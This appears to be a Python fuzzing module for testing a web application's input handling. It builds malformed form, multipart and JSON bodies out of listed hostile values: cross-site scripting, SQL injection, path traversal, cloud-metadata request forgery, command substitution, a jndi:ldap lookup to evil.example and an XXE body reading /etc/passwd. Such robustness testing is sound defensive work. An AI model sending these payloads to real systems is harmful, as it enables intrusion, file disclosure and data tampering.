"""What nobody types, and everybody who attacks sends: values, and bodies made of them."""

import json
import random
from typing import Any
from urllib.parse import quote_plus

Pairs = list[tuple[str, str | bytes]]

MARK = "<img src=x onerror=alert(7)>"  # must never stand in a page as it is

VALUES: tuple[str, ...] = (
    "",
    " ",
    "0",
    "-1",
    "1e999",
    "NaN",
    "9" * 400,
    "9223372036854775808",
    "true",
    "null",
    "\x00",
    "a\x00b",
    "\r\nSet-Cookie: facilitator=x\r\n\r\n",
    "a\nb\rc\x85d\u2028e",
    "\x1b[31m\x07\x7f",
    "\u202egnp.exe\u2066",
    "\ufeff\ufffe\uffff",
    "\udcff\udcfe",  # bytes that are no UTF-8
    "\udced\udca0\udc80",  # and half of a pair
    "e\u0301" * 500,
    "ﷺ" * 300,
    "😀" * 200,
    "x" * 300,
    "x" * 20_000,
    MARK,
    f"\"'>{MARK}",
    "{{7*7}}${7*7}#{7*7}%{7*7}",
    "%(title)s %s %n {0} {title}",
    "' OR '1'='1' --",
    "'; DROP TABLE session; --",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "//evil.example/",
    "/\\evil.example/",
    "https://evil.example/",
    "javascript:alert(7)",
    "/\t/evil.example",
    "=HYPERLINK(0)",
    "$(sleep 9)`sleep 9`|sleep 9",
    "[]",
    "{}",
    '{"__proto__":{"x":1}}',
    "2026-13-45",
    "0000-00-00",
    "9999-12-31",
    "2026-11-22T25:61",
    "010190-1234",
    "½Ⅷ²",
    "١٢٣",
    "٠",
    "on",
    "1/1",
    "-",
    ".",
    "..",
    "a;b",
    "a,b",
    "a|b",
    "alt.zip",
)

# As bytes in an address, already encoded or never properly so.
PIECES: tuple[bytes, ...] = (
    b"%00",
    b"%0d%0aset-cookie:%20x=y",
    b"%0a",
    b"%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    b"..%2f..%2fREADME.md",
    b"%252e%252e%252f",
    b"..;/..",
    b"%c0%ae%c0%ae%c0%af",
    b"%ed%a0%80",
    b"%ed%b2%80",
    b"%ff%fe",
    b"%f4%90%80%80",
    b"%",
    b"%zz",
    b"%u0041",
    b"\xff\xfe",
    b"\xc3\xa6",
    b"x" * 3000,
    b"%41" * 2000,
    b"/",
    b"//",
    b"%2f",
    b"%5c",
    b".",
    b"..",
    b"%2e%2e",
    b"~",
    b"*",
    b"<script>",
    b"'",
    b'"',
    b"-1",
    b"0",
    b"1000000",
    b"1000001",
    b"9999999999999999999999",
    b"1.0",
    b"1e1",
    b"%D9%A1",
    b"NaN",
    b"",
)

METHODS = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "FOO")

HEADERS: tuple[tuple[bytes, bytes], ...] = (
    (b"Accept", b"\xff, text/html;q=x"),
    (b"Accept-Language", b"x" * 5000),
    (b"Accept-Encoding", b"gzip, deflate, br, *;q=NaN"),
    (b"Cookie", b"lang=" + b"\xff" * 20),
    (b"Cookie", b'lang="\\057\\000"; facilitator=x.y.z; device=; ticket-=a'),
    (b"Cookie", b"=;=;;;" * 200),
    (b"Cookie", b"facilitator=eyJh.bad.sig; facilitator=other"),
    (b"X-Forwarded-For", b"127.0.0.1"),
    (b"X-Forwarded-Host", b"evil.example"),
    (b"X-Forwarded-Proto", b"https"),
    (b"Forwarded", b"host=evil.example;proto=https"),
    (b"X-Original-URL", b"/workshops"),
    (b"X-Rewrite-URL", b"/metrics"),
    (b"X-HTTP-Method-Override", b"DELETE"),
    (b"Range", b"bytes=0-0,5-1,-9999999999999999999"),
    (b"If-None-Match", b"*"),
    (b"If-Modified-Since", b"not a day"),
    (b"Expect", b"100-continue"),
    (b"Content-Encoding", b"gzip"),
    (b"User-Agent", b"a\tb\x80${jndi:ldap://evil.example}"),
    (b"Referer", b"https://evil.example/"),
    (b"Sec-Fetch-Site", b"same-origin"),
    (b"Upgrade", b"websocket"),
    (b"Upgrade", b"h2c"),
    (b"Authorization", b"Basic " + b"A" * 3000),
    (b"Last-Event-ID", b"\x00"[:0] + b"1"),
)

FILES: tuple[tuple[str, str, bytes], ...] = (
    ("a.csv", "text/csv", b"Navn;Trin\nA;1\n"),
    ("a.csv", "text/csv", b""),
    ("a.csv", "text/csv", b'"' * 5001),
    ("a.csv", "text/csv", b"\x00\xff" * 300),
    ("../../a.csv", "text/html", b"Navn\n<script>"),
    ("a.xlsx", "application/zip", b"PK\x03\x04" + b"\x00" * 200),
    ("a.xls", "application/zip", b"\xd0\xcf\x11\xe0" + b"\x00" * 200),
    ("a.pdf", "application/pdf", b"%PDF-1.7\n1 0 obj<<>>endobj"),
    ("a.json", "application/json", b"[" * 50_000),
    ("a.json", "application/json", b'{"digest": 1e999}'),
    ("a\r\nX: y.svg", "image/svg+xml", b"<svg xmlns='x'><!DOCTYPE a [<!ENTITY b 'c'>]>&b;</svg>"),
    ('a"; name="do', "a/b\x00", b"x"),
    ("x" * 3000 + ".csv", "x" * 2000, b"Navn\nA\n"),
    ("\udcff.csv", "", b"\xef\xbb\xbfNavn\nA\n"),
)


def value(chance: random.Random) -> str:
    """One of them, or two joined."""
    one = chance.choice(VALUES)
    return one + chance.choice(VALUES) if chance.random() < 0.1 else one


def bent(chance: random.Random, fields: Pairs) -> Pairs:
    """A form's fields with some of them changed, left out, doubled, or of other names."""
    came: Pairs = []
    for name, what in fields:
        dice = chance.random()
        if dice < 0.12:
            continue
        came.append((name, value(chance) if dice < 0.4 else what))
        if dice > 0.93:
            came.append((name, value(chance)))
    if chance.random() < 0.2:
        came.append((value(chance)[:200], value(chance)))
    if chance.random() < 0.02:
        came += [("x", "y")] * 1500
    return came


def _encoded(text: str) -> bytes:
    return text.encode("utf-8", "surrogateescape")


def urlencoded(fields: Pairs) -> bytes:
    """As a browser sends a form without files."""
    return "&".join(
        f"{quote_plus(_encoded(name))}={quote_plus(what if isinstance(what, bytes) else _encoded(what))}"
        for name, what in fields
    ).encode()


def multipart(chance: random.Random, fields: Pairs, *, files: float) -> bytes:
    """As a browser sends a form with files, with a file in place of a text that often, and the reverse."""
    parts = []
    for name, what in fields:
        told = _encoded(name).replace(b'"', b"%22")
        if isinstance(what, bytes) or chance.random() < files:
            called, kind, content = chance.choice(FILES)
            content = what if isinstance(what, bytes) and chance.random() < 0.3 else content
            head = b'Content-Disposition: form-data; name="%s"; filename="%s"' % (told, _encoded(called))
            parts.append(head + b"\r\nContent-Type: " + _encoded(kind) + b"\r\n\r\n" + content)
        else:
            parts.append(b'Content-Disposition: form-data; name="%s"\r\n\r\n' % told + _encoded(what))
    return (
        b"".join(b"--" + BETWEEN + b"\r\n" + part + b"\r\n" for part in parts) + b"--" + BETWEEN + b"--\r\n"
    )


def document(chance: random.Random, meant: dict[str, Any]) -> bytes:
    """JSON as it is meant, with some of its values and keys replaced, or hardly JSON at all."""
    copy = {"template_id": f"t{chance.randrange(3)}", "name": "Vores", **json.loads(json.dumps(meant))}
    for _ in range(chance.choice((0, 1, 1, 4))):
        where: Any = copy
        while isinstance(where, dict | list) and where and chance.random() < 0.7:
            keys = list(where) if isinstance(where, dict) else range(len(where))
            key = chance.choice(keys)
            if not isinstance(where[key], dict | list):
                break
            where = where[key]
        new = chance.choice((None, True, -1, 10**30, 1.5, [], {}, [[[[]]]], ["x"] * 2000, value(chance)))
        if isinstance(where, dict):
            where[chance.choice([*where, "extra", ""])] = new
        else:
            where.append(new)
    text = json.dumps(copy, ensure_ascii=chance.random() < 0.5).encode("utf-8", "surrogateescape")
    return text[: chance.randrange(len(text))] if chance.random() < 0.1 else text


BETWEEN = b"between7"
MULTIPART = b"multipart/form-data; boundary=" + BETWEEN


def body(chance: random.Random, fields: Pairs) -> tuple[bytes, bytes]:
    """A content type, and a body that is of it, or nearly, or not at all."""
    dice = chance.random()
    has_file = any(isinstance(what, bytes) for _, what in fields)
    if dice < 0.45 and not has_file:
        return b"application/x-www-form-urlencoded", urlencoded(fields)
    if dice < 0.7:
        return MULTIPART, multipart(chance, fields, files=0.1)
    whole = multipart(chance, fields, files=0.1)
    texts = {name[:50]: what if isinstance(what, str) else "" for name, what in fields}
    return chance.choice(
        [
            (MULTIPART, whole[: chance.randrange(len(whole) + 1)]),
            (MULTIPART, whole.replace(b"\r\n", b"\n")),
            (MULTIPART, whole.replace(b"form-data", b"attachment")),
            (MULTIPART, whole.replace(b"name=", b"n\x00me=")),
            (b"multipart/form-data", whole),
            (b"multipart/form-data; boundary=", whole),
            (b"multipart/form-data; boundary=" + b"x" * 500, whole),
            (b"multipart/mixed; boundary=between7", whole),
            (b"application/x-www-form-urlencoded; charset=utf-16", urlencoded(fields)),
            (b"application/x-www-form-urlencoded", b"&=&&==%&%zz=%00&" * 20 + urlencoded(fields)),
            (b"application/x-www-form-urlencoded", b"%ff=%ed%a0%80&a" + urlencoded(fields)),
            (b"application/x-www-form-urlencoded", b"a=" + b"x" * 300_000),
            (b"application/json", json.dumps(texts).encode("utf-8", "surrogatepass")),
            (b"application/json", b"[" * 40_000),
            (b"application/json", b'{"a":' * 20_000),
            (b"text/plain", urlencoded(fields)),
            (b"text/xml", b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"),
            (b"\xff/\x01", whole),
            (b"", urlencoded(fields)),
            (MULTIPART, b""),
            (b"application/x-www-form-urlencoded", b""),
        ]
    )
